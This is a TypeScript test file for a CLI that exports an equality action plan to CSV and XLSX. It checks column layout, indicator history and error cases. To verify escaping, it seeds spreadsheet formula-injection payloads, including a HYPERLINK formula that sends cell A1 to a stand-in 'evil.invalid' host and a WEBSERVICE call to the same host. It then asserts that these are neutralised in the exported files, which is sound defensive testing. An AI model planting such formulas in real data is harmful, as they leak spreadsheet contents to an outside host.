/**
 * Plan exports end to end: the real CLI against the real local SharePoint with the seeded plan; the CSV parsed back
 * with papaparse and the XLSX with exceljs. An action is first given text that a spreadsheet would run as a formula
 * (through the data layer, as a person editing the action would), and the files must carry it neutralised.
 */
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import ExcelJS from "exceljs";
import Papa from "papaparse";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { getPlanActions, getPlanIndicators, recordIndicatorValue, updateAction } from "../../src/data/index.ts";
import { type SeededSite, startSeededSite } from "../helpers/seeded-site.ts";
import { runCli } from "../helpers/run-cli.ts";

const PLAN = "Equality Objectives and Action Plan 2023-2027";
const HEADERS = ["Role", "Objective", "Commitment", "Reference", "Action", "Officers", "Teams", "Success measures", "Due", "Status", "Disposition", "Characteristics", "Last update", "Last update date", "Indicators"];
const EVIL_TEXT = '=HYPERLINK("http://evil.invalid/?x="&A1,"Click")';
const EVIL_TEAMS = "+44 1622 602000 - switchboard";
const EVIL_MEASURE = "@SUM(1+1)";
const EVIL_MEASURE_2 = "-2+3";

let site: SeededSite;
let dir: string;
let evilRef = "";
let actionCount = 0;
/** A note that a spreadsheet would run as a formula, on a value recorded in the test (and then corrected). */
const EVIL_NOTE = "=WEBSERVICE(\"http://evil.invalid/\")";
let indicatorRef = "";

beforeAll(async () => {
  site = await startSeededSite();
  dir = mkdtempSync(join(tmpdir(), "eap-export-"));
  // The app writes, as the server does for the lead.
  const sp = site.appSp();
  const actions = await getPlanActions(sp, site.currentPlanId);
  actionCount = actions.length;
  const target = actions[1];
  evilRef = target.reference;
  await updateAction(sp, target.id, target.etag!, { text: EVIL_TEXT, teams: EVIL_TEAMS, successMeasures: [EVIL_MEASURE, EVIL_MEASURE_2] });
  // The seeded indicator of the demonstration plan gets a value for 2023-24, then a correction.
  const [ind] = await getPlanIndicators(sp, site.currentPlanId);
  indicatorRef = actions.find((a) => a.id === ind.actionId)!.reference;
  const now = new Date("2024-05-01T10:00:00Z");
  await recordIndicatorValue(sp, { indicator: ind, input: { period: "2023-24", value: 12, note: EVIL_NOTE }, revisionSeen: 0, recordedBy: null, submissionKey: "x-1", now });
  await recordIndicatorValue(sp, { indicator: ind, input: { period: "2023-24", value: 14, note: "Late returns counted." }, revisionSeen: 1, recordedBy: null, submissionKey: "x-2", now });
});
afterAll(async () => {
  await site?.close();
  if (dir) rmSync(dir, { recursive: true, force: true });
});

describe("eap export", () => {
  test("CSV: one row per action in plan order, every column, formula cells neutralised", async () => {
    const out = join(dir, "plan.csv");
    const r = await runCli(["export", "--site", site.siteUrl, "--plan", PLAN, "--format", "csv", "--out", out]);
    expect(r.stderr).toBe("");
    expect(r.code).toBe(0);
    const raw = readFileSync(out, "utf8");
    expect(raw.charCodeAt(0)).toBe(0xfeff);
    const parsed = Papa.parse<string[]>(raw.slice(1), { skipEmptyLines: true });
    expect(parsed.errors).toEqual([]);
    const [header, ...rows] = parsed.data;
    expect(header).toEqual(HEADERS);
    expect(rows).toHaveLength(actionCount);
    const col = (h: string) => HEADERS.indexOf(h);
    // Plan order: the seed's carried-over actions start with the Community Leader's.
    expect(rows[0][col("Role")]).toBe("Community Leader");
    const evil = rows.find((row) => row[col("Reference")] === evilRef)!;
    expect(evil[col("Action")]).toBe(`'${EVIL_TEXT}`);
    expect(evil[col("Teams")]).toBe(`'${EVIL_TEAMS}`);
    expect(evil[col("Success measures")]).toBe(`'${EVIL_MEASURE}\n${EVIL_MEASURE_2}`);
    // No cell anywhere starts with a formula trigger.
    for (const row of rows) for (const c of row) expect(/^[=+\-@\t\r]/.test(c), c).toBe(false);
    // Every carried-over action is ongoing or developed in the new plan's terms: the disposition column is filled.
    expect(rows.every((row) => row[col("Disposition")] !== "")).toBe(true);
  });

  test("XLSX: the same rows, read back with exceljs, header row bold and frozen", async () => {
    const out = join(dir, "plan.xlsx");
    const r = await runCli(["export", "--site", site.siteUrl, "--plan", PLAN, "--format", "xlsx", "--out", out]);
    expect(r.code).toBe(0);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(out);
    const ws = wb.getWorksheet("Actions")!;
    expect(ws).toBeDefined();
    const values = (n: number) => (ws.getRow(n).values as unknown[]).slice(1).map((v) => (v === undefined || v === null ? "" : String(v)));
    expect(values(1)).toEqual(HEADERS);
    expect(ws.getRow(1).font?.bold).toBe(true);
    expect(ws.views[0]).toMatchObject({ state: "frozen", ySplit: 1 });
    expect(ws.rowCount).toBe(actionCount + 1);
    const refCol = HEADERS.indexOf("Reference");
    let evilRow: string[] | undefined;
    for (let n = 2; n <= ws.rowCount; n++) {
      const row = values(n);
      for (const c of row) expect(/^[=+\-@\t\r]/.test(c), c).toBe(false);
      if (row[refCol] === evilRef) evilRow = row;
      // Text stays text: no cell became a formula.
      ws.getRow(n).eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula));
    }
    expect(evilRow?.[HEADERS.indexOf("Action")]).toBe(`'${EVIL_TEXT}`);
  });

  test("XLSX: the plan's indicators and every value with its history; the values sheet reads back as an import", async () => {
    const out = join(dir, "measures.xlsx");
    const r = await runCli(["export", "--site", site.siteUrl, "--plan", PLAN, "--format", "xlsx", "--out", out]);
    expect(r.code).toBe(0);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(out);
    const rows = (name: string) => {
      const ws = wb.getWorksheet(name)!;
      const out: unknown[][] = [];
      for (let n = 1; n <= ws.rowCount; n++) out.push((ws.getRow(n).values as unknown[]).slice(1));
      return out;
    };
    const actions = rows("Actions");
    const byRef = actions.find((row) => row[HEADERS.indexOf("Reference")] === indicatorRef)!;
    expect(byRef[HEADERS.indexOf("Indicators")]).toBe("Consultation response rate from underrepresented groups: 14 % in 2023-24");
    const indicators = rows("Indicators");
    expect(indicators[0].slice(0, 5)).toEqual(["Action reference", "Indicator", "Unit", "Better when", "Frequency"]);
    expect(indicators.slice(1).map((x) => [x[0], x[1], x[10]])).toEqual([[indicatorRef, "Consultation response rate from underrepresented groups", "14 % (2023-24)"]]);
    const values = rows("Indicator values");
    expect(values[0]).toEqual(["Action reference", "Indicator", "Period", "Group", "Value", "Note", "Unit", "Revision", "Current", "Recorded by", "Recorded at", "Reported by"]);
    // Both revisions, the first marked as corrected; a note that would run as a formula is neutralised; values stay numbers.
    expect(values.slice(1).map((x) => [x[2], x[4], x[5], x[7], x[8]])).toEqual([
      ["2023-24", 12, `'${EVIL_NOTE}`, 1, "No (corrected)"],
      ["2023-24", 14, "Late returns counted.", 2, "Yes"],
    ]);
    for (let n = 1; n <= wb.getWorksheet("Indicator values")!.rowCount; n++)
      wb.getWorksheet("Indicator values")!.getRow(n).eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula));
  });

  test("bad input: unknown format, mismatched extension, missing plan, unwritable path — exit 1, no file", async () => {
    const cases: Array<{ args: string[]; message: string }> = [
      { args: ["--format", "pdf", "--out", join(dir, "p.pdf")], message: '--format "pdf" is not one of: csv, xlsx' },
      { args: ["--format", "csv", "--out", join(dir, "p.xlsx")], message: "must end in .csv" },
      { args: ["--plan", "No such plan", "--format", "csv", "--out", join(dir, "missing.csv")], message: `Plans on this site: "Equality Objectives and Action Plan 2017-2021", "${PLAN}"` },
      { args: ["--format", "xlsx", "--out", join(dir, "nope", "p.xlsx")], message: "does not exist" },
    ];
    const before = readdirSync(dir).sort();
    for (const c of cases) {
      const args = c.args.includes("--plan") ? c.args : ["--plan", PLAN, ...c.args];
      const r = await runCli(["export", "--site", site.siteUrl, ...args]);
      expect(r.code, c.message).toBe(1);
      expect(r.stderr).toContain(c.message);
    }
    expect(readdirSync(dir).sort()).toEqual(before);
    expect(existsSync(join(dir, "missing.csv"))).toBe(false);
  });
});
